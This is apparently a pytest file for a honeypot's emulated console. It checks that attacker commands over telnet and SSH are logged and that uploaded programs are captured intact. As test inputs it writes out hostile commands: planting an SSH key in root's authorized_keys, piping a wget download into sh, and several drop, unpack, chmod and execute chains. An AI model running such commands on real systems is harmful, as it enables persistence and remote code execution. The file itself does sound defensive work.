"""What is typed becomes events; what is brought becomes bodies."""

from __future__ import annotations

import asyncio
import gc
import gzip
import hashlib
import io
import random
import tarfile
import weakref
from base64 import b64encode, encodebytes
from collections.abc import Callable
from contextlib import AbstractContextManager
from typing import Any

import pytest

from mead.sensors.console import Console


async def test_commands_are_told_with_their_status(bench: Any) -> Any:
    b = bench("telnet")
    console = Console(b.context, b"root", door="telnet", interactive=True)
    console.line(b"false")
    console.line(b"   ")
    console.line(b"echo \xff")
    assert [(event.command, event.exit_status) for event in b.events] == [("false", 1), ("echo \\xff", 0)]


async def test_a_key_written_to_authorized_keys_is_learnt(bench: Any) -> Any:
    b = bench("ssh")
    console = Console(b.context, b"root", door="ssh", interactive=False)
    blob = b64encode(b"\0\0\0\x07ssh-rsa" + bytes(64)).decode()
    console.command(f"mkdir -p /root/.ssh; echo ssh-rsa {blob} mdrfckr > /root/.ssh/authorized_keys".encode())
    b.capture.flush()
    await b.desk.drain(5)
    assert b.events.of("file.uploaded")[0].path == "/root/.ssh/authorized_keys"
    from base64 import b64decode
    from hashlib import sha256

    name = "SHA256:" + b64encode(sha256(b64decode(blob)).digest()).decode().rstrip("=")
    assert b.credentials.accepts_key(name)


async def test_standard_input_goes_to_the_command_that_reads(bench: Any) -> Any:
    b = bench("ssh")
    console = Console(b.context, b"root", door="ssh", interactive=False)
    console.command(b"cat > /tmp/f")
    assert console.reading
    assert console.prompt == b""
    console.feed(b"abc\x00\xff")
    console.feed_eof()
    assert not console.reading
    b.capture.flush()
    await b.desk.drain(5)
    assert list(b.bodies.values()) == [b"abc\x00\xff"]


@pytest.mark.parametrize("ended", [True, False])
async def test_a_large_program_on_standard_input_is_kept_whole(
    bench: Any, ended: bool, costs_less: Callable[[float], AbstractContextManager[None]]
) -> None:
    """As long as any bot's, in small pieces, also when the peer leaves in the middle."""
    b = bench("ssh")
    console = Console(b.context, b"root", door="ssh", interactive=False)
    body = random.Random(8).randbytes(20 << 20)
    console.command(b"cat > /tmp/.x; chmod 777 /tmp/.x")
    with costs_less(5):
        for start in range(0, len(body), 1000):
            console.feed(body[start : start + 1000])
        if ended:
            console.feed_eof()
        console.close()
    b.capture.flush()
    await b.desk.drain(10)
    (captured,) = b.events.of("sample.captured")
    assert captured.sha256 == hashlib.sha256(body).hexdigest()
    assert b.events.of("limit.reached") == []


BODY = random.Random(8).randbytes(5 << 20)


def _tar(data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        member = tarfile.TarInfo("m")
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
    return out.getvalue()


@pytest.mark.parametrize(
    ("command", "sent"),
    [
        ("tee f", BODY), ("dd of=f", BODY), ("cat | cat > f", BODY), ("base64 -d > f", encodebytes(BODY)),
        ("gunzip > f", gzip.compress(BODY, 1)), ("tar xf -", _tar(BODY)), ("head -c 99999999 > f", BODY),
        ("openssl base64 -d > f", encodebytes(BODY)), ("read x; cat > f", b"line\n" + BODY),
        ("cat > f; md5sum f; strings f | head -2; ./f", BODY),
        ("cat > f.gz; gunzip f.gz; chmod +x f; ./f", gzip.compress(BODY, 1)),
        ("cat > f; cp f g; rm f; mv g h; ./h", BODY), ("cat > a; tar xf a; ./m", _tar(BODY)),
        ("cat > a; base64 -d a > f; rm a; ./f", encodebytes(BODY)),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
async def test_a_large_program_is_kept_whole_however_it_is_written(
    bench: Any, command: str, sent: bytes
) -> None:
    b = bench("ssh")
    console = Console(b.context, b"root", door="ssh", interactive=False)
    console.command(f"cd /tmp; {command}".encode())
    for start in range(0, len(sent), 1 << 15):
        console.feed(sent[start : start + (1 << 15)])
    console.feed_eof()
    console.close()
    b.capture.flush()
    await b.desk.drain(10)
    assert hashlib.sha256(BODY).hexdigest() in {event.sha256 for event in b.events.of("sample.captured")}


async def test_what_is_copied_about_is_bounded_all_the_same(
    bench: Any, costs_less: Callable[[float], AbstractContextManager[None]]
) -> None:
    b = bench("ssh")
    console = Console(b.context, b"root", door="ssh", interactive=False)
    console.command(b"cat > /tmp/x")
    console.feed(bytes(8 << 20))
    console.feed_eof()
    with costs_less(5):
        console.command(b"while :; do cat /tmp/x > /tmp/y; done")
    assert b.events.of("limit.reached")


async def test_a_shell_that_nobody_holds_leaves_nothing_for_the_garbage_collector(bench: Any) -> Any:
    b = bench("telnet")
    gc.disable()
    try:
        console = Console(b.context, b"root", door="telnet", interactive=True)
        console.line(b"echo x > /tmp/x; cat /proc/self/stat; (sleep 5 &)")
        console.close()
        machine, files = weakref.ref(console.shell.machine), weakref.ref(console.files)
        del console
        await b.desk.drain(5)
        assert machine() is None
        assert files() is None
    finally:
        gc.enable()


async def test_a_body_that_comes_after_the_session_finds_its_shell(bench: Any) -> Any:
    come = asyncio.Event()

    async def follow(offer: Any, publish: Any) -> bytes:
        await come.wait()
        return b"#!/bin/sh\nwget http://198.51.100.2/second\n"

    b = bench("telnet", follow=follow)
    console = Console(b.context, b"root", door="telnet", interactive=True)
    console.line(b"wget http://198.51.100.1/first -O- | sh")
    console.close()
    del console
    gc.collect()
    come.set()
    await b.desk.drain(5)
    assert [offer.url for offer in b.events.of("offer.seen")][:2] == [
        "http://198.51.100.1/first", "http://198.51.100.2/second",
    ]  # fmt: skip
